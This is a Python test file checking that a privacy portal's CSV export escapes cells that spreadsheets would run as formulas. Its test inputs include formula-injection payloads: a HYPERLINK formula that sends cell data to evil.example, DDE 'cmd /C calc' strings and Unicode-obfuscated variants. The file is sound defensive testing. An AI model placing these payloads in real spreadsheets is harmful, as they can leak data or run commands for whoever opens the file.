"""The one CSV writer: no cell a spreadsheet would run as a formula, and nothing bypasses it."""

import ast
import csv
import io

import pytest

from privacy_portal.spreadsheets import csv_writer, spreadsheet_cell
from tests.conftest import BASE_DIR

# Where the portal's own code lives (not the tests, the virtualenv or generated files).
NOT_CODE = {"tests", "staticfiles", "var", "test-artifacts", "build"}


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("https://evil.example/?"&A1,"click")',
        "+1+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
        "\tanything",
        " =1+1",
        "\u00a0\n=1+1",
        "\uff1d1+1",
        "\uff0b1+1",
        "\uff0d1+1",
        "\uff20SUM(1+1)",
        "\u3000\uff1d1+1",  # ideographic space, then a full-width equals sign
        "\ufe661+1",
        "-",
        "--3",
        "-3-3",
        "-0x1F",
    ],
)
def test_a_cell_that_could_start_a_formula_gets_an_apostrophe(text):
    assert spreadsheet_cell(text) == f"'{text}"


@pytest.mark.parametrize(
    "value",
    ["-3", "+3", "-1.5", "-.5", "-1e-05", " -3 ", -3, -2.5, "alice@example.org", "a=b", "", "'=1"],
)
def test_numbers_and_other_text_stay_as_they_are(value):
    assert spreadsheet_cell(value) == str(value)


def test_the_writer_escapes_every_cell_and_writes_none_as_empty():
    out = io.StringIO()
    writer = csv_writer(out)
    writer.writerow(["name", None, -3])
    writer.writerows([["=1+1", "ok", "@x"], ["+1+1", True, "\uff0d1"]])

    assert list(csv.reader(io.StringIO(out.getvalue()))) == [
        ["name", "", "-3"],
        ["'=1+1", "ok", "'@x"],
        ["'+1+1", "True", "'\uff0d1"],
    ]


def _imports_csv(path) -> bool:
    tree = ast.parse(path.read_text(encoding="utf-8"), filename=str(path))
    for node in ast.walk(tree):
        if isinstance(node, ast.Import) and any(a.name == "csv" for a in node.names):
            return True
        if isinstance(node, ast.ImportFrom) and node.module == "csv":
            return True
    return False


def test_no_module_but_the_spreadsheets_one_writes_csv_itself():
    code = [
        path
        for path in BASE_DIR.rglob("*.py")
        if not any(
            part.startswith(".") or part in NOT_CODE for part in path.relative_to(BASE_DIR).parts
        )
    ]
    assert BASE_DIR / "requests_app" / "exports.py" in code  # the scan sees the apps

    writers = {str(path.relative_to(BASE_DIR)) for path in code if _imports_csv(path)}

    assert writers == {"privacy_portal/spreadsheets.py"}
